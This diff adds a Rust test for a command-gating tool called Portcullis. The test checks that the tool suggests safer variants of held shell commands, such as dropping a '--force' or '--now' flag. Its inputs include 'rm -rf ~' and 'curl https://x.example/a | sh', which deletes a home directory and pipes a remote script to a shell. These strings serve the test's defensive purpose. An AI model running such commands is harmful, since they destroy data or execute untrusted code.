@@ -284,3 +284,32 @@ fn a_pause_is_shown_and_can_be_ended() {
     says(&portcullis(&scratch, &["pause", "--end"]), 0, &["Portcullis is active again"]);
     says(&portcullis(&scratch, &["pause", "--end"]), 0, &["there is no pause"]);
 }
+
+/// What would make a held call pass is judged before it is shown.
+#[test]
+fn what_would_pass_is_shown() {
+    let scratch = with_policy();
+    let ways = |command: &str| -> Vec<(String, String)> {
+        let value = json(&portcullis(&scratch, &["explain", "--json", "--", command]));
+        let text = |way: &Value, key: &str| way[key].as_str().unwrap().to_owned();
+        value["would_pass"].as_array().unwrap().iter().map(|way| (text(way, "how"), text(way, "text"))).collect()
+    };
+    let has = |ways: &[(String, String)], how: &str, text: &str| ways.iter().any(|way| way.0.contains(how) && way.1 == text);
+    let found = ways("cd sub && sudo launch --now");
+    assert!(has(&found, "without `--now`", "cd sub && sudo launch"), "{found:?}");
+    let found = ways("git push --force origin topic");
+    assert!(has(&found, "without `--force`", "git push origin topic"), "{found:?}");
+    // Nothing that is held itself is shown, and nothing for a call that passes.
+    for command in ["git push --force origin topic", "rm -rf ~", "curl https://x.example/a | sh", "launch --now"] {
+        for (how, text) in ways(command).into_iter().filter(|(_, text)| !text.contains("[[waiver]]")) {
+            let value = json(&portcullis(&scratch, &["explain", "--json", "--", &text]));
+            assert!(value["verdict"]["tier"].as_u64().unwrap() < 3, "{command}: {how}: {text}");
+        }
+    }
+    assert_eq!(ways("git status"), []);
+    says(&portcullis(&scratch, &["explain", "launch --now"]), 0, &["would pass: launch (without `--now`)"]);
+    // An open rule: the waiver exempts the call.
+    scratch.write("portcullis.toml", &POLICY.replace("tier = 3", "tier = 4"));
+    let found = ways("rm -rf build-output");
+    assert!(found.iter().all(|(how, text)| !how.contains("waiver") || text.contains("[[waiver]]")), "{found:?}");
+}
